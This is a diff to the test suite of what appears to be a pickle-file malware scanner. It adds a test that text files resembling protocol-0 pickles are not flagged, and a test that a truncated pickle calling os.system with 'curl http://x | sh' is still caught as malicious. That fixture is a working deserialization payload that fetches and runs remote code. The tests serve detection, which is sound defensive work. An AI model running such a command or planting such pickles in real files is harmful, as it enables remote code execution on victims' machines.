@@ -416,3 +416,16 @@ def test_training_checkpoint_config_objects_are_clean():
     obj = {"args": argparse.Namespace(lr=0.1, layers=[1, 2]), "ns": types.SimpleNamespace(a=1)}
     for proto in (2, 4):
         assert verdict_of(pickle.dumps(obj, protocol=proto)) == "clean"
+
+
+def test_text_files_that_start_like_protocol0_pickles_are_not_pickles():
+    for text in (b"certifi\nnumpy\ntorch>=2\n", b"cat\ndog\nbird\n", b"(1, 2, 3)\n", b"Linear layers\n",
+                 b"ios\nandroid\n", b"]\n", b"}\n"):
+        r = scan1(text, "requirements.txt")
+        assert r.verdict == "clean" and r.format == "unknown", (text, r.to_dict())
+
+
+def test_truncated_protocol0_payload_is_still_caught():
+    data = b"cposix\nsystem\n(S'curl http://x | sh'\ntR"  # no STOP
+    r = scan1(data, "m.pkl")
+    assert r.verdict == "malicious"
